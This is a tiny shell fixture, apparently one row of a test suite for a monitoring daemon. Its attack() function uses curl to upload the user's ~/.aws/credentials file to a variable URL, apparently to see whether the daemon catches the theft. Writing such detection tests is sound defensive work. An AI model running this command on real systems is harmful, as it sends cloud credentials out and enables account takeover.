# SPDX-License-Identifier: Apache-2.0
TITLE="curl uploads a secret while the daemon watches the whole machine"
ROW="R01"
FORM=daemon
attack() { curl -s -m 15 --data-binary @"$HOME/.aws/credentials" "$URL/"; }
